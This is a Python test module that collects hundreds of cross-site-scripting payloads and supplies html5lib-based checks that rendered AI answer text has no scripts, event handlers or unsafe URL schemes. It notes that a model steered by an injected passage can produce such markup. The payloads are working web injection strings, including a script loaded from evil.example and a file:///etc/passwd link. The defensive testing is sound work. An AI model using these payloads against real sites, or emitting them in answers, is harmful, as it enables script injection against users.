"""A corpus of hostile answer texts, and the checks every rendering of answer text must pass.

The payloads are what a model steered by a passage, a document quoted by the extractive model,
or a reviewer's "edit and approve" text could put into an answer: raw HTML, Markdown links and
images with script URLs (mixed case, character references, whitespace and control characters
inside the scheme), attribute break-outs around citation markers, SVG and MathML, CSS, frames,
comments, CDATA, autolinks and reference-style links. Hand-written ones first (each a known
trick), then combinations generated from the parts below.
"""

from __future__ import annotations

import html
import itertools
import re
from collections.abc import Callable
from xml.etree import ElementTree  # noqa: S405 (html5lib builds the tree; nothing is parsed as XML)

import html5lib

# The exact payload of the review finding (a live img with onerror came out of rendering).
REPORTED = '<a class="[1] <img src=x onerror=alert(1)>">x</a>'

HAND_WRITTEN = [
    REPORTED,
    '<a title="[1]" href="#">[1]</a>',
    '<a class="[1]"><img src=x onerror=alert(1)>[2]</a>',
    '<p title="x [1] y" onclick="alert(1)">hi [1]</p>',
    '<span data-x="[1]"><svg onload=alert(1)>[1]</svg></span>',
    '<a href="[1]">[1]</a>',
    '<a href="javascript:alert(1)">[1]</a>',
    '<div class="[1]">\n\n<img src=x onerror=alert(1)>\n\n</div>',
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">[1]</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">[1]</math>',
    '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled [1]</p>',
    '<div style="position:fixed;inset:0">overlay</div>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    '<a href="https://ok.example" onmouseover=alert(1)>ok</a>',
    "<a href=https://ok.example/ class=cite data-n=1>[1]</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1))',
    '[x](https://ok.example"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    '![x" onerror="alert(1)](x)',
    "![x](x onerror=alert(1))",
    "[![img](x)](javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[1]\n\n[1]: javascript:alert(1)",
    "[x][evil]\n\n[evil]: data:text/html,<script>alert(1)</script>",
    '[x][y]\n\n[y]: https://ok.example "t" onclick=alert(1)',
    "<javascript:alert(1)>",
    "<https://ok.example/?q=<script>alert(1)</script>>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    "<mailto:x@evil.example?body=<img src=x onerror=alert(1)>>",
    "https://ok.example/<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "&#91;1&#93; <img src=x onerror=alert(1)>",
    '<a class="&#91;1&#93; <img src=x onerror=alert(1)>">x</a>',
    '<a class="&lsqb;1&rsqb; <img src=x onerror=alert(1)>">x</a>',
    "&#91;&#49;&#93;",
    "\\[1\\] \\<img src=x onerror=alert(1)\\>",
    "[[1]](javascript:alert(1))",
    "[see [1]](https://ok.example)",
    "[[[1]]]",
    "[1[2]3]",
    "**[1]** *[2]* `[1]` [1]",
    "```\n<script>alert(1)</script> [1]\n```",
    "    <img src=x onerror=alert(1)> [1]",
    "`<img src=x onerror=alert(1)>`",
    "<!-- [1] --><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<![CDATA[ ]]><script>alert(1)</script>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<table><td background=javascript:alert(1)>x</td></table>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<a href="#" id="cited">x</a><a name="x" id="answer-1">y</a>',
    '<div hx-get="/admin/" hx-trigger="load" hx-swap-oob="true" id="main">htmx</div>',
    '<p hx-on:click="alert(1)">htmx on</p>',
    '<p ws-send ws-connect="wss://evil.example/">ws</p>',
    "> quoted <img src=x onerror=alert(1)> [1]",
    "- item <script>alert(1)</script>\n- [1](javascript:alert(1))",
    "# Heading <img src=x onerror=alert(1)>\n\ntext [1]",
    "Text\n\n<div>\n<img src=x onerror=alert(1)>\n</div>\n\nmore [1]",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "<sup>[1]</sup><sub onclick=alert(1)>x</sub>",
    "\u202e<img src=x onerror=alert(1)>",
    "\x00<script>alert(1)</script>",
    "<img\x00src=x onerror=alert(1)>",
    "<scr\x00ipt>alert(1)</script>",
    '<a href="https://ok.example">ok [1]</a> and <a href="/chat/">relative</a>',
]

# Parts for generated payloads.
_SCHEMES = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6a;avascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "java\tscript:alert(1)",
    " \x0b javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "livescript:alert(1)",
    "file:///etc/passwd",
]
_LINK_SHAPES = [
    "[click]({url})",
    "![pic]({url})",
    '<a href="{url}">click [1]</a>',
    "<a href='{url}'>click</a>",
    "<a href={url}>click</a>",
    '<img src="{url}">',
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>b</button></form>',
    '<svg><a href="{url}"><text>t</text></a></svg>',
]
_MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=x></iframe>",
    "<style>*{color:red}</style>",
    "<math><mi xlink:href=x>m</mi></math>",
    "<object data=x></object>",
    "<embed src=x>",
]
_BREAKOUT_ATTRIBUTES = ["class", "title", "href", "data-n", "id", "alt"]
_MARKERS = ["[1]", "[2]", "&#91;1&#93;", "&#x5b;2&#x5d;", "&lsqb;1&rsqb;", "&lbrack;2&rbrack;", "[999]"]


def _generated() -> list[str]:
    out: list[str] = []
    for shape, url in itertools.product(_LINK_SHAPES, _SCHEMES):
        out.append(shape.format(url=url))
    for attribute, marker, markup in itertools.product(_BREAKOUT_ATTRIBUTES, _MARKERS[:3], _MARKUP[:3]):
        out.append(f'<a {attribute}="{marker} {markup}">x</a> {marker}')
    for marker, markup in itertools.product(_MARKERS, _MARKUP):
        out.append(f"Claim {marker} {markup} and **bold** {marker}")
        out.append(html.escape(f"<b>{marker}</b>{markup}"))  # entity-encoded markup
    return out


PAYLOADS: list[str] = list(dict.fromkeys(HAND_WRITTEN + _generated()))
# PostgreSQL text cannot hold NUL, so a payload with one never becomes a stored answer; those
# are checked on the rendering function only.
STORABLE_PAYLOADS: list[str] = [p for p in PAYLOADS if "\x00" not in p]

# --------------------------------------------------------------------------- checks

FORBIDDEN_IN_ANSWER = {
    "script", "iframe", "frame", "frameset", "img", "image", "style", "object", "embed", "svg", "math",
    "form", "input", "button", "textarea", "select", "link", "meta", "base", "video", "audio", "source",
    "template", "noscript", "xmp", "plaintext", "details", "marquee", "body", "title",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster"}
_SAFE_SCHEMES = {"http", "https", ""}
# How a browser reads a URL (WHATWG URL standard): leading and trailing C0 controls and spaces
# are stripped, tabs and newlines anywhere are removed, then a scheme is letters, digits, "+",
# "-" and "." before the first ":". Anything else is a relative URL.
_URL_TRIM = re.compile(r"^[\x00-\x20]+|[\x00-\x20]+$")
_URL_TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")
_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.\-]*):")


def parse_html(markup: str) -> ElementTree.Element:
    """A whole page or a fragment, parsed the way a browser would (html5lib)."""
    return html5lib.parse(markup, treebuilder="etree", namespaceHTMLElements=False)


def _local(name: object) -> str:
    text = str(name)
    return text.rsplit("}", 1)[-1].lower()


def url_is_safe(value: str) -> bool:
    decoded = _URL_TAB_OR_NEWLINE.sub("", _URL_TRIM.sub("", html.unescape(value)))
    match = _SCHEME.match(decoded)
    return (match.group(1).lower() if match else "") in _SAFE_SCHEMES


def problems_in(
    root: ElementTree.Element, *, where: str, trusted: Callable[[ElementTree.Element], bool] | None = None
) -> list[str]:
    """Everything unsafe under ``root``: event-handler attributes, forbidden elements, URL
    attributes with a scheme other than http, https or none (relative)."""
    found: list[str] = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # comments and processing instructions are inert
        if trusted is not None and trusted(element):
            continue
        tag = _local(element.tag)
        if tag in FORBIDDEN_IN_ANSWER:
            found.append(f"{where}: <{tag}> element")
        for name, value in element.attrib.items():
            attribute = _local(name)
            if attribute.startswith("on"):
                found.append(f"{where}: <{tag} {attribute}=...>")
            if attribute in URL_ATTRIBUTES and not url_is_safe(value):
                found.append(f"{where}: <{tag} {attribute}={value!r}>")
            if attribute == "style" or attribute.startswith(("hx-", "ws-", "data-hx")):
                found.append(f"{where}: <{tag} {attribute}=...>")
    return found


def fragment_problems(markup: str, *, where: str) -> list[str]:
    body = parse_html(f"<div id=answer-fragment>{markup}</div>").find("body")
    assert body is not None
    return [p for child in body for p in problems_in(child, where=where)]


def has_class(element: ElementTree.Element, name: str) -> bool:
    return name in (element.get("class") or "").split()


def page_problems(
    page: str,
    *,
    is_answer: Callable[[ElementTree.Element], bool],
    where: str,
    trusted: Callable[[ElementTree.Element], bool] | None = None,
) -> list[str]:
    """An answer-bearing page: every answer container (``is_answer``) must be clean, and the
    page as a whole must have no event-handler attribute and no inline script (our own scripts
    all have a src)."""
    root = parse_html(page)
    found: list[str] = []
    containers = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        if any(_local(n).startswith("on") for n in element.attrib):
            found.append(f"{where}: page element <{_local(element.tag)}> with an event handler")
        if _local(element.tag) == "script" and not element.get("src"):
            found.append(f"{where}: inline <script> on the page")
        if is_answer(element):
            containers.append(element)
    if not containers:
        found.append(f"{where}: no answer content found on the page")
    for container in containers:
        found.extend(problems_in(container, where=where, trusted=trusted))
    return found


__all__ = [
    "HAND_WRITTEN",
    "PAYLOADS",
    "REPORTED",
    "STORABLE_PAYLOADS",
    "fragment_problems",
    "has_class",
    "page_problems",
    "parse_html",
    "url_is_safe",
]
